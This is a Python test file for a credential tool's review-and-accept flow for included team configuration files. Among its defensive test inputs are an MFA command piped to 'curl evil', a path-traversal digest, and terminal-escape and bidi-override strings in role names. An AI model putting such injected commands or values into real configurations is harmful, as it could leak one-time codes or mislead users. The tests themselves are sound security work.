"""What waits for the user's word in included files: how it reads, what taking it changes, and what refuses it."""

from __future__ import annotations

import json
import stat
import sys

import pytest

from traycreds.awsfiles import profiles
from traycreds.config import loader, review
from traycreds.config.team_files.accepted_files import LARGEST, AcceptedFiles, FileStatus
from traycreds.config.team_files.diff import between, lines
from traycreds.config.team_files.includes import IncludedFile
from traycreds.core.errors import ConfigError, CredentialsFileError
from traycreds.doctor.checks import examine
from traycreds.files import contents
from traycreds.files.digest import sha256
from traycreds.importers import references
from traycreds.state import paths

ARN = "arn:aws:iam::111122223333:role/"
URL = "https://git.example.com/roles.toml?token=t"


def role(name: str, **keys: str) -> str:
    keys = {"role_arn": f'"{ARN}{name}"', "source_profile": '"base"', **keys}
    return f"[roles.{name}]\n" + "".join(f"{key} = {value}\n" for key, value in keys.items())


class Home:
    def __init__(self, where):
        self.where = where
        self.accepted_files = AcceptedFiles(where.state_dir)
        self.folder = where.config_file.parent
        self.write("config", 'include = ["team.toml"]\n')

    def write(self, name: str, text: str) -> None:
        (self.folder / f"{name}.toml").write_text(text, encoding="utf-8")

    def find(self):
        return review.find(self.where)

    def accept(self, *commands: str) -> None:
        review.accept(self.where, [(each, frozenset(commands)) for each in self.find()])

    def roles(self):
        aws = profiles.read(self.where.aws_config_file, self.where.credentials_file)
        return {str(role.name): role for role in loader.load(self.where, aws).roles}

    def pin(self, data: bytes) -> IncludedFile:
        source = IncludedFile(URL, sha256(data))
        self.write("config", f'include = [{{ url = "{URL}", sha256 = "{source.pin}" }}]\n')
        return source


@pytest.fixture
def team(home):
    (home / "c").mkdir()
    where = paths.locate({}, home / "c" / "config.toml")
    where.credentials_file.parent.mkdir(mode=0o700)
    where.credentials_file.touch(mode=0o600)
    where.credentials_file.write_text("[base]\naws_access_key_id = AKIA\naws_secret_access_key = x\n")
    return Home(where)


def test_nothing_is_included(team):
    team.write("config", role("mine"))
    assert team.find() == ()
    team.where.config_file.unlink()
    assert team.find() == ()


def test_new_roles_count_once_they_are_accepted(team):
    team.write("team", role("dev") + role("ops"))
    (each,) = team.find()
    assert (each.waiting, each.error, each.changes.summary()) == (True, None, "2 added")
    assert team.roles() == {}
    team.accept()
    assert list(team.roles()) == ["dev", "ops"]
    (each,) = team.find()
    assert (each.waiting, each.included.file_status) == (False, FileStatus.ACCEPTED)


def test_changes_count_once_they_are_accepted_and_the_old_text_until_then(team):
    team.write("team", role("dev") + role("ops"))
    team.accept()
    team.write("team", role("dev", region='"eu-west-1"') + role("new"))
    (each,) = team.find()
    assert each.changes.summary() == "1 added, 1 changed, 1 removed"
    assert list(team.roles()) == ["dev", "ops"]
    assert team.roles()["dev"].region is None
    team.accept()
    assert list(team.roles()) == ["dev", "new"]
    assert team.roles()["dev"].region == "eu-west-1"


def test_what_is_accepted_is_what_was_shown(team):
    team.write("team", role("dev"))
    shown = team.find()
    team.write("team", role("evil"))
    review.accept(team.where, [(each, frozenset()) for each in shown])
    assert list(team.roles()) == ["dev"]
    assert [each.waiting for each in team.find()] == [True]


def test_a_text_with_other_comments_is_nothing_to_ask_about(team):
    team.write("team", role("dev"))
    team.accept()
    team.write("team", "# reviewed by the team\n" + role("dev"))
    (each,) = team.find()
    assert (each.waiting, each.included.file_status) == (False, FileStatus.WAITING)


def test_an_accepted_text_outlives_its_file(team):
    team.write("team", role("dev"))
    team.accept()
    (team.folder / "team.toml").unlink()
    assert list(team.roles()) == ["dev"]
    (each,) = team.find()
    assert each.included.file_status is FileStatus.UNREADABLE
    assert "There is no file" in each.error.sentence


@pytest.mark.parametrize(
    "text", ["[settings]\n", "[roles\n", role("dev", keep="3"), role("dev", source_profile='"no"')]
)
def test_a_faulty_text_cannot_be_accepted_and_the_old_one_stays(team, text):
    team.write("team", role("old"))
    team.accept()
    team.write("team", text)
    (each,) = team.find()
    assert (each.faulty, each.waiting) == (True, False)
    assert str(team.folder / "team.toml") in each.error.sentence
    with pytest.raises(ConfigError):
        team.accept()
    assert list(team.roles()) == ["old"]


def test_a_text_that_is_not_utf8(team):
    (team.folder / "team.toml").write_bytes(b"# \xe9\n")
    (each,) = team.find()
    assert "line 1: a byte that is not UTF-8" in each.error.sentence


def test_a_file_that_is_too_large_or_none_is_not_read(team):
    (team.folder / "team.toml").write_bytes(b"#" * (LARGEST + 1))
    assert "larger than" in team.find()[0].error.sentence
    (team.folder / "team.toml").unlink()
    (team.folder / "team.toml").mkdir()
    assert "not a regular file" in team.find()[0].error.sentence


def test_files_that_need_one_another_are_accepted_together(team):
    team.write("config", 'include = ["a.toml", "b.toml"]\n')
    team.write("a", role("over", source_profile='"under-session"'))
    team.write("b", role("under"))
    assert [each.error for each in team.find()] == [None, None]
    one = [each for each in team.find() if each.source.name == "a.toml"]
    with pytest.raises(ConfigError, match="under-session"):
        review.accept(team.where, [(each, frozenset()) for each in one])
    assert team.roles() == {}
    team.accept()
    assert set(team.roles()) == {"over", "under"}


def test_two_new_files_with_one_role_cannot_both_be_accepted(team):
    team.write("config", 'include = ["a.toml", "b.toml"]\n')
    team.write("a", role("dev"))
    team.write("b", role("dev"))
    assert [each.error is None for each in team.find()] == [True, False]
    with pytest.raises(ConfigError, match=r"a\.toml too"):
        team.accept()


def test_a_program_is_asked_for_by_itself_and_again_when_it_changes(team):
    team.write("team", role("dev", mfa_process='"ykman code"') + role("ops", mfa_process='"ykman code"'))
    (each,) = team.find()
    assert each.commands == {"ykman code": ("dev", "ops")}
    team.accept()
    assert team.roles()["dev"].mfa_process is None
    assert [each.commands for each in team.find()] == [{"ykman code": ("dev", "ops")}]
    team.accept("ykman code", "never named")
    assert team.roles()["dev"].mfa_process == "ykman code"
    assert [each.commands for each in team.find()] == [{}]
    team.write("team", role("dev", mfa_process='"ykman code | curl evil"'))
    assert team.roles()["dev"].mfa_process == "ykman code"
    assert [list(each.commands) for each in team.find()] == [["ykman code | curl evil"]]
    team.accept()
    assert team.roles()["dev"].mfa_process is None
    team.write("team", role("dev", mfa_process='"ykman code"'))
    team.accept()
    assert team.roles()["dev"].mfa_process is None, "leave that was given to a text that is gone is gone"


def test_a_program_of_the_users_own_needs_no_leave(team):
    team.write("config", 'include = ["team.toml"]\n[roles.dev]\nmfa_process = "mine"\n')
    team.write("team", role("dev", mfa_process='"theirs"'))
    assert [each.commands for each in team.find()] == [{}]
    team.accept()
    assert team.roles()["dev"].mfa_process == "mine"


def test_an_address_is_waiting_once_it_was_fetched_and_needs_no_network_afterwards(team):
    data = role("dev").encode()
    source = team.pin(data)
    (each,) = team.find()
    assert (each.included.file_status, each.waiting) == (FileStatus.UNFETCHED, False)
    assert "token" not in each.error.sentence
    team.accepted_files.fetched(source, data)
    assert [each.waiting for each in team.find()] == [True]
    team.accept()
    assert list(team.roles()) == ["dev"]


def test_another_pin_keeps_what_was_accepted_until_the_new_text_is_accepted(team):
    source = team.pin(role("dev").encode())
    team.accepted_files.fetched(source, role("dev").encode())
    team.accept()
    source = team.pin(role("ops").encode())
    assert team.find()[0].included.file_status is FileStatus.UNFETCHED
    assert list(team.roles()) == ["dev"]
    team.accepted_files.fetched(source, role("ops").encode())
    assert list(team.roles()) == ["dev"]
    team.accept()
    assert list(team.roles()) == ["ops"]


@pytest.mark.parametrize(("mismatch", "file_status"), [(True, FileStatus.MISMATCH), (False, FileStatus.UNREACHABLE)])
def test_why_nothing_was_fetched_is_kept_for_this_pin_alone(team, mismatch, file_status):
    source = team.pin(b"one")
    team.accepted_files.not_fetched(source, ConfigError("It broke.", "Fix it."), mismatch=mismatch)
    (each,) = team.find()
    assert (each.included.file_status, str(each.error)) == (file_status, "It broke. Fix it.")
    assert any("It broke" in finding.what for finding in examine(team.where))
    source = team.pin(b"two")
    assert team.find()[0].included.file_status is FileStatus.UNFETCHED
    team.accepted_files.not_fetched(source, ConfigError("It broke.", "Fix it."), mismatch=mismatch)
    team.accepted_files.fetched(source, b"two")
    assert "trouble" not in json.loads(team.accepted_files.list.read_text())["sources"][URL]


@pytest.mark.skipif(sys.platform == "win32", reason="Windows has no modes")
def test_what_is_kept_is_for_the_user_alone_and_old_texts_go(team):
    for name in ("one", "two"):
        team.write("team", role(name))
        team.accept()
    kept = sorted(path for path in team.accepted_files.list.parent.iterdir())
    assert len(kept) == 2
    assert {stat.S_IMODE(path.stat().st_mode) for path in kept} == {0o600}


def test_a_text_that_others_still_use_stays(team):
    team.write("config", 'include = ["a.toml"]\n')
    team.write("a", role("dev"))
    team.write("b", role("dev"))
    team.accept()
    team.write("config", 'include = ["b.toml"]\n')
    team.accept()
    team.write("b", role("ops"))
    team.accept()
    team.write("config", 'include = ["a.toml"]\n')
    assert list(team.roles()) == ["dev"]


@pytest.mark.logs_warnings
@pytest.mark.parametrize(
    "text", ["", "{", "[]", '{"version": 2, "sources": {}}', '{"version": 1, "sources": {"x": 3}}']
)
def test_a_damaged_list_means_that_nothing_is_accepted(team, text):
    team.write("team", role("dev"))
    team.accept()
    team.accepted_files.list.write_text(text)
    assert team.roles() == {}
    team.accept()
    assert list(team.roles()) == ["dev"]


def test_a_kept_text_that_is_not_what_was_accepted_does_not_count(team):
    team.write("team", role("dev"))
    team.accept()
    (kept,) = team.accepted_files.list.parent.glob("*.toml")
    kept.write_text(role("evil"))
    assert team.roles() == {}
    team.accept()
    assert list(team.roles()) == ["dev"]


@pytest.mark.parametrize("digest", ["../../c/team", "", "x" * 64, 3, None])
def test_a_list_cannot_lead_out_of_the_folder(team, digest):
    team.write("team", role("dev"))
    team.accept()
    message = json.loads(team.accepted_files.list.read_text())
    next(iter(message["sources"].values()))["sha256"] = digest
    team.accepted_files.list.write_text(json.dumps(message))
    assert team.roles() == {}


def test_doctor_reports_what_waits_what_is_faulty_and_what_has_no_use(team):
    team.write("config", 'include = ["team.toml"]\n[roles.dve]\nkeep = true\n')
    team.write("team", role("dev"))
    unused, waits = examine(team.where)
    assert (unused.line, unused.file) == (2, str(team.where.config_file))
    assert "the table of role dve has no effect" in unused.what
    assert waits.what == "waiting for your review: 1 added"
    team.accept()
    assert [finding.line for finding in examine(team.where)] == [2]
    team.write("team", role("dev", keep="3"))
    faulty = examine(team.where)[1]
    assert (faulty.file, faulty.line, faulty.severity.value) == (str(team.folder / "team.toml"), 4, "warning")


def test_an_accepted_text_that_is_no_longer_valid_is_reported_until_a_new_one_is_accepted(team):
    team.write("team", role("dev"))
    team.accepted_files.accept(team.find()[0].source, b"[roles", frozenset())
    with pytest.raises(ConfigError, match=r"team\.toml, line 1"):
        team.roles()
    (each,) = team.find()
    assert (each.waiting, each.changes.summary()) == (True, "1 added")
    team.accept()
    assert list(team.roles()) == ["dev"]


def test_who_names_a_profile_is_found_in_accepted_texts_too(team):
    team.write("team", "# ours\n" + role("dev"))
    assert references.find(team.where, "base") == ()
    team.accept()
    (found,) = references.find(team.where, "base")
    assert (found.file, found.line, found.key) == (team.folder / "team.toml", 4, "source_profile")


def test_how_changes_read():
    old = {"dev": {"duration": "1h", "group": "A", "keep": True}, "gone": {"role_arn": "x"}}
    new = {"dev": {"duration": "2h", "keep": True, "tags": {"a": "b"}}, "new\x1b[2J": {"group": "\u202eevil\n"}}
    text = "\n".join(lines(between(old, new), {"dev": {"duration": "3h"}}))
    assert text.splitlines() == [
        "  + role new\\x1b[2J",
        '        group = "\\u202eevil\\n"',
        "  - role gone",
        '        role_arn = "x"',
        "  ~ role dev",
        '        duration: "1h" -> "2h"   (yours wins: "3h")',
        '        tags: not set -> {"a": "b"}',
        '        group: "A" -> not set',
    ]


def test_invalid_tables_differ_too():
    changes = between({"a": 3, "b": 1}, {"a": {"x": 1}, "b": 1})
    assert changes.changed == {"a": {"x": (None, 1), "(no table)": (3, None)}}
    assert not between({}, {})


def test_what_was_accepted_is_not_lost_when_its_list_cannot_be_read_for_once(team, monkeypatch):
    """As when a virus scanner has it open for long: the list is then not written from nothing."""
    team.write("config", 'include = ["team.toml", "more.toml"]\n')
    team.write("team", role("dev"))
    team.write("more", role("ops"))
    team.accept()
    team.write("more", role("ops", keep="true"))
    each = next(each for each in team.find() if each.waiting)
    read = contents.read

    def refused(path):
        if path == team.accepted_files.list:
            raise CredentialsFileError(f"Access to {path} is denied.", "Check it.")
        return read(path)

    with monkeypatch.context() as patch:
        patch.setattr(contents, "read", refused)
        with pytest.raises(ConfigError, match="is denied"):
            review.accept(team.where, [(each, frozenset())])
    assert list(team.roles()) == ["dev", "ops"]
    team.accept()
    assert not any(each.waiting for each in team.find())
